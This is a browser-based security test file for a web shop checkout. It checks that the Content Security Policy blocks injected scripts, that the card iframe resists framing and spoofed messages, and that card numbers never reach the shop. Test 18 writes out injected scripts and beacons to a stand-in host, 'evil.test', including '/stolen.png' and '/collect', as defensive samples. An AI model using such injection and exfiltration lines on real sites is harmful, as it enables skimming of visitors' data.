import { afterAll, expect, it } from 'vitest'
import {
  acceptTerms,
  cards,
  cartLine,
  fillAddress,
  fillCheckout,
  newAddress,
  orderIdOf,
  payButton,
  visitorWith,
} from '../support/paying-visitor.ts'
import { closeBrowser, expectQuiet, revisit } from '../support/real-browser.ts'

afterAll(closeBrowser)

it('security 18: a script that got into a page could neither run nor tell anybody', async () => {
  const visitor = await revisit({ expectedNoise: [/Content.Security.Policy|Refused|violates|CSP/i, /evil\.test/] })
  const { page } = visitor
  await visitor.goto('/')
  const seen = await page.evaluate(async () => {
    const refused: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      refused.push(`${effectiveDirective} ${blockedURI}`)
    })
    const marks = window as unknown as Record<string, unknown>
    const inline = document.createElement('script')
    inline.textContent = 'window.ranInline = true'
    document.body.append(inline)
    const handlers = document.createElement('div')
    handlers.innerHTML = '<img src="data:," onerror="window.ranError = true"><svg onload="window.ranLoad = true"></svg>'
    document.body.append(handlers)
    const foreign = document.createElement('script')
    foreign.src = 'https://evil.test/x.js'
    const failed = new Promise((resolve) => foreign.addEventListener('error', resolve))
    document.body.append(foreign)
    const image = new Image()
    image.src = 'https://evil.test/stolen.png'
    await failed
    const reported = await fetch('https://evil.test/collect').then(
      () => true,
      () => false,
    )
    let evaluated = true
    try {
      new Function('return true')()
    } catch {
      evaluated = false
    }
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))
    return { reported, evaluated, ran: [marks.ranInline, marks.ranError, marks.ranLoad], refused }
  })
  expect(seen).toMatchObject({ reported: false, evaluated: false, ran: [undefined, undefined, undefined] })
  expect(seen.refused).toEqual(
    expect.arrayContaining([
      'script-src-elem inline',
      'script-src-attr inline',
      'script-src-elem https://evil.test/x.js',
      'img-src https://evil.test/stolen.png',
      'connect-src https://evil.test/collect',
      'script-src eval',
    ]),
  )
})

it('security 33: the card’s frame is shown to no other site, and the page believes no message but the frame’s own', async () => {
  const visitor = await visitorWith([await cartLine(4319)])
  const { page } = visitor
  await visitor.goto('/kassen')
  await fillAddress(page, newAddress())
  await acceptTerms(page)
  const frame = page.locator('iframe[src*="/sandbox/card-field"]')
  await frame.waitFor()
  const source = new URL((await frame.getAttribute('src'))!)
  const evil = new URL(source)
  evil.searchParams.set('parent', 'https://evil.test')
  expect((await fetch(evil)).status).toBe(403)
  const own = await fetch(source)
  expect(own.headers.get('content-security-policy')).toContain(`frame-ancestors ${visitor.origin}`)

  // A message that claims to come from the frame, from the page itself or from another origin, completes no card.
  await page.evaluate((origin) => {
    const data = {
      type: 'change',
      change: { elementType: 'card', complete: true, empty: false, brand: 'visa', value: {} },
    }
    const frame = document.querySelector<HTMLIFrameElement>('iframe[src*="/sandbox/card-field"]')?.contentWindow ?? null
    window.postMessage(data, '*')
    window.dispatchEvent(new MessageEvent('message', { data, origin: 'https://evil.test', source: frame }))
    window.dispatchEvent(new MessageEvent('message', { data, origin, source: window }))
    window.dispatchEvent(new MessageEvent('message', { data, origin: 'https://evil.test', source: window }))
  }, source.origin)
  const sent: string[] = []
  page.on('request', (request) => {
    if (request.method() === 'POST' && request.url().endsWith('/api/checkout')) sent.push(request.url())
  })
  await payButton(page).click()
  await page.locator('[role=alert], [aria-invalid=true]').first().waitFor()
  expect(sent).toEqual([])
})

it('security 40: the card’s number never reaches the shop', async () => {
  const visitor = await visitorWith([await cartLine(4319)])
  const { page, origin } = visitor
  const toShop: string[] = []
  const elsewhere: string[] = []
  page.on('request', (request) => {
    const line = `${request.method()} ${request.url()} ${JSON.stringify(request.headers())} ${request.postData() ?? ''}`
    if (request.url().startsWith(origin)) toShop.push(line)
    else if (/4242[ +-]?4242/.test(line)) elsewhere.push(new URL(request.url()).pathname)
  })
  await visitor.goto('/kassen')
  await fillCheckout(page, newAddress(), cards.good)
  await payButton(page).click()
  await orderIdOf(page)
  expect(toShop.some((line) => line.startsWith('POST') && line.includes('/api/checkout'))).toBe(true)
  expect(toShop.filter((line) => /4242[ +-]?4242|cvc|"?code"?=123/i.test(line))).toEqual([])
  expect(elsewhere).toEqual(['/v1/payment_methods'])
  // Nor does it stay in the page or in the browser's storage.
  const kept = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]))
  expect(kept).not.toMatch(/4242[ -]?4242/)
  expectQuiet(visitor)
})
